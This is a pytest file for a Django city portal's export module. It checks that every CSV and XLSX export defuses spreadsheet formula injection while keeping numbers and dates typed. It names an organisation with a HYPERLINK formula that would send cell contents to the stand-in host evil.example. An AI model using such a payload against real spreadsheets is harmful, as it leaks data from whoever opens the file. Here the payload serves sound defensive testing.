"""Spreadsheet exports as an attacker uses them: a partner names its organisation or offer so that a spreadsheet
would run a formula, and a city employee opens the export. Every export of the portal goes through
``charter_portal.exports``; each is fetched over HTTP here in every format and dialect it offers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from charter.initial import create_first_version
from charter.models import Article, ChainHead, CharterVersion
from charter_portal import exports
from tests import factories
from tests.charter.conftest import quick_signature
from tests.conftest import api_client_for

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"Klik hier")'
EVIL_TITLE = "Open huis;=1+1;"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff".encode()


@pytest.fixture
def rabot(db):
    return factories.neighbourhood(7)


@pytest.fixture
def evil(rabot):
    """An organisation and an offer named to run formulas, integral in Rabot (so in the coverage export too)."""
    org = factories.organisation(name=EVIL_NAME)
    offer = factories.offer(
        org,
        title=EVIL_TITLE,
        functions_=("leisure", "welfare", "bridge", "signal"),
        neighbourhoods=[rabot],
        weekly_hours=Decimal("14.50"),
    )
    quick_signature(org, create_first_version(CharterVersion, Article, ChainHead))
    return org, offer


def _is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "."))
    except ArithmeticError:
        return False
    return True


def _assert_no_cell_starts_a_formula(body: bytes):
    """Split every line as any spreadsheet might (on ``,``, ``;`` or tab, quotes dropped): no piece may start a
    formula, unless it is a plain number."""
    text = body.decode("utf-8-sig")
    for separator in (",", ";", "\t"):
        for line in text.splitlines():
            for piece in line.split(separator):
                piece = piece.strip('"')
                assert not piece.startswith(FORMULA_START) or _is_number(piece), (separator, line)


def _csv_rows(body: bytes, dialect: str) -> list[list[str]]:
    if dialect == exports.EXCEL_NL:
        assert body.startswith(BOM)
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert not body.startswith(BOM)
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def _cell_of(rows: list[list[str]], column: str, contains: str) -> str:
    header = rows[0]
    row = next(row for row in rows[1:] if any(contains in cell for cell in row))
    return row[header.index(column)]


CSV_EXPORTS = [
    # (who, URL, column, a text identifying the row)
    ("visitor", "/charter/ondertekenaars.csv", "Organisation", "HYPERLINK"),
    ("staff", "/wijken/export.csv", "Integral via", "HYPERLINK"),
    ("visitor", "/api/v1/offers/", "title", "Open huis"),
    ("visitor", "/api/v1/hsds/services/", "organization.name", "Open huis"),
    ("staff", "/api/v1/signatories/", "name", "HYPERLINK"),
]


def _client(who, client, staff_client):
    return staff_client if who == "staff" else client


@pytest.mark.parametrize("dialect", exports.DIALECTS)
@pytest.mark.parametrize(("who", "url", "column", "row"), CSV_EXPORTS)
def test_it_neutralises_formulas_in_every_csv_export(who, url, column, row, dialect, evil, client, staff_client):
    query = {"format": "csv", "dialect": dialect} if url.startswith("/api/") else {"dialect": dialect}
    response = _client(who, client, staff_client).get(url, query)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment; filename=")
    _assert_no_cell_starts_a_formula(response.content)
    rows = _csv_rows(response.content, dialect)
    cell = _cell_of(rows, column, row)
    assert cell in ("'" + EVIL_NAME, "Open huis;'=1+1;") or cell.startswith("'=HYPERLINK"), cell


def test_it_neutralises_formulas_in_the_xlsx_export(evil, staff_client):
    response = staff_client.get("/wijken/export.xlsx")
    assert response["Content-Type"] == exports.XLSX_MEDIA_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="coverage-')
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_START)]
    assert "'" + EVIL_NAME in texts


def test_it_splits_nothing_into_a_formula_after_a_separator(evil):
    for text, safe in [
        (EVIL_TITLE, "Open huis;'=1+1;"),
        ("a,+1\t@SUM(A1)", "a,'+1\t'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("-5 jaar; - of meer", "'-5 jaar; - of meer"),  # a space after the separator starts no formula
        ("Gent - Rabot", "Gent - Rabot"),
    ]:
        assert exports.neutralise(text) == safe


def test_it_keeps_numbers_and_dates_as_values_in_csv(evil, client, staff_client):
    rows = _csv_rows(client.get("/api/v1/offers/", {"format": "csv"}).content, exports.RFC4180)
    assert _cell_of(rows, "weekly_hours", "Open huis") == "14.50"
    rows = _csv_rows(client.get("/api/v1/offers/", {"format": "csv", "dialect": "excel-nl"}).content, "excel-nl")
    assert _cell_of(rows, "weekly_hours", "Open huis") == "14,50"
    rows = _csv_rows(staff_client.get("/wijken/export.csv", {"dialect": "excel-nl"}).content, "excel-nl")
    assert _cell_of(rows, "Leisure hours per week", "HYPERLINK") == "14,50"
    rows = _csv_rows(client.get("/charter/ondertekenaars.csv").content, exports.RFC4180)
    signed_on = _cell_of(rows, "Signed on", "HYPERLINK")
    assert datetime.date.fromisoformat(signed_on)


def test_it_writes_negative_numbers_as_numbers_and_the_same_text_as_text():
    columns = [exports.Column("amount", exports.NUMBER), exports.Column("note")]
    rows = [[-3, "-3"], [Decimal("-1.25"), "=1"], [2.5, None]]
    body = exports.csv_content(columns, rows).decode()
    assert body.splitlines() == ["amount,note", "-3,'-3", "-1.25,'=1", "2.5,"]
    body = exports.csv_content(columns, rows, exports.EXCEL_NL).decode("utf-8-sig")
    assert body.splitlines() == ["amount;note", "-3;'-3", "-1,25;'=1", "2,5;"]
    sheet = load_workbook(io.BytesIO(exports.xlsx_content(columns, rows))).active
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == [-3, -1.25, 2.5]
    assert all(sheet.cell(row, 1).data_type == "n" for row in (2, 3, 4))
    assert sheet["B2"].value == "'-3" and sheet["B2"].data_type == "s"


def test_it_writes_the_excel_nl_dialect_with_a_bom_semicolons_and_decimal_commas(evil, staff_client):
    body = staff_client.get("/wijken/export.csv", {"dialect": "excel-nl"}).content
    assert body.startswith(BOM)
    header = body.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("Kind of area;Number;Name;Priority;")
    row = next(line for line in body.decode("utf-8-sig").splitlines() if "HYPERLINK" in line)
    assert ";14,50;" in row
    plain = staff_client.get("/wijken/export.csv").content
    assert not plain.startswith(BOM)
    assert plain.decode().splitlines()[0].startswith("Kind of area,Number,Name,Priority,")
    assert ",14.50," in next(line for line in plain.decode().splitlines() if "HYPERLINK" in line)


def test_it_writes_a_styled_workbook_with_typed_cells(evil, staff_client):
    sheet = load_workbook(io.BytesIO(staff_client.get("/wijken/export.xlsx").content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
    assert all(cell.font.bold for cell in sheet[1])
    assert all(cell.fill.fgColor.rgb.endswith("DDE6F0") for cell in sheet[1])
    header = [cell.value for cell in sheet[1]]
    via = header.index("Integral via")
    evil_row = next(row for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[via].value))
    cell = evil_row[header.index("Leisure hours per week")]
    assert cell.data_type == "n" and cell.value == 14.5
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert widths["C"] > widths["D"] >= 8  # names are wider than yes/no
    assert max(widths.values()) <= 60


def test_it_writes_dates_as_dates_in_a_workbook():
    columns = [exports.Column("day", exports.DATE), exports.Column("when", exports.DATE)]
    moment = datetime.datetime(2026, 3, 2, 9, 30, tzinfo=datetime.UTC)
    sheet = load_workbook(io.BytesIO(exports.xlsx_content(columns, [[datetime.date(2026, 3, 2), moment]]))).active
    assert sheet["A2"].is_date and sheet["A2"].value == datetime.datetime(2026, 3, 2)
    assert sheet["B2"].is_date and sheet["B2"].value == datetime.datetime(2026, 3, 2, 10, 30)  # Brussels time
    body = exports.csv_content(columns, [["2026-03-02", "2026-03-02T09:30:00Z"]]).decode()
    assert body.splitlines()[1] == "2026-03-02,2026-03-02 10:30:00"


@pytest.mark.parametrize(
    ("url", "who"),
    [("/charter/ondertekenaars.csv", "visitor"), ("/wijken/export.csv", "staff"), ("/wijken/export.xlsx", "staff")],
)
def test_it_refuses_an_unknown_dialect_on_pages_with_a_message(url, who, client, staff_client):
    response = _client(who, client, staff_client).get(url, {"dialect": "excel-fr"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Unknown CSV dialect “excel-fr”" in response.content.decode()
    dutch = _client(who, client, staff_client).get(url, {"dialect": "excel-fr"}, HTTP_ACCEPT_LANGUAGE="nl")
    assert "Onbekend CSV-dialect “excel-fr”" in dutch.content.decode()


def test_it_refuses_an_unknown_dialect_in_the_api_with_its_json_error(city_admin):
    client = api_client_for(city_admin)
    for query in ({"format": "csv", "dialect": "excel-fr"}, {"dialect": "excel-fr"}):
        response = client.get("/api/v1/offers/", query)
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        error = response.json()["error"]
        assert error["code"] == "invalid"
        assert error["fields"]["dialect"][0].startswith("Unknown CSV dialect “excel-fr”")


def test_it_documents_the_dialect_where_the_api_offers_csv():
    from drf_spectacular.generators import SchemaGenerator

    paths = SchemaGenerator().get_schema(request=None, public=True)["paths"]
    for url in ("/api/v1/offers/", "/api/v1/hsds/services/", "/api/v1/coverage/"):
        (dialect,) = [p for p in paths[url]["get"]["parameters"] if p["name"] == "dialect"]
        assert set(dialect["schema"]["enum"]) == {"rfc4180", "excel-nl"}
        assert "excel-nl" in dialect["description"]
    assert not [p for p in paths["/api/v1/offers/{id}/"]["get"]["parameters"] if p["name"] == "dialect"]
